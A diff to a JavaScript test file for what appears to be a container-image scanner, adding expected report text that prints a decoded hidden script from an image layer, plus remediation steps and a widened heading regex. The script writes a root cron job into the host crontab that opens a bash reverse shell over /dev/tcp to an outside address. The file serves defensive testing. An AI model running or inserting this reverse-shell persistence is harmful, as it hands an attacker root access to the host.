@@ -113,6 +113,39 @@ test('the page for a stranger', () => {
     - Confidence: low
     - Detector: \`dual-use-tool\`
 
+    ## The code
+
+    Every piece of code the findings are about, decoded where it was hidden. None of it was run.
+
+    ### Code 1: \`/run.sh\`
+
+    - Language: \`shell\`
+    - Where it stands: \`/run.sh\`, layer 3
+
+    \`\`\`text
+    #!/bin/sh
+
+
+    echo "* * * * * root bash -i >& /dev/tcp/192.0.2.44/8443 0>&1" >> /mnt/etc/crontab
+    sleep infinity
+    \`\`\`
+
+    ### Code 2: a scheduled job
+
+    - Language: \`shell\`
+    - Where it stands: \`/run.sh:4\`, layer 3
+    - Comes from: \`/run.sh\`
+
+    \`\`\`text
+    bash -i >& /dev/tcp/192.0.2.44/8443 0>&1
+    \`\`\`
+
+    ## What to do
+
+    - Do not run it. Where it already ran, take the container and its host as compromised: look there for what the story above says it writes, adds and starts.
+    - Block \`sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\` and the indicators below, and report the image to the registry that serves it with this page.
+    - It reaches for the host: check crontabs, authorized keys, services and accounts of every machine that ran it.
+
     ## Indicators
 
     | kind | value | scope | first seen at |
@@ -178,7 +211,7 @@ describe('hostile text', () => {
         // Headings, rules and tables are ours alone.
         for (const line of rest.split('\n').filter((each) => each.startsWith('#')))
           expect(line).toMatch(
-            /^#{1,3} (?:[A-Z]+: CODE$|[A-Z]+: \((?:empty|blank)\)$|[\d.]+\. |If you|Later|Findings|Not |Indicators|Layers)/,
+            /^#{1,3} (?:[A-Z]+: CODE$|[A-Z]+: \((?:empty|blank)\)$|[\d.]+\. |If you|Later|Findings|Not |Indicators|Layers|The code|What to do|Code \d+: )/,
           );
         for (const line of rest.split('\n').filter((each) => each.startsWith('|')))
           expect([4, 6]).toContain(line.split('|').length - 2);
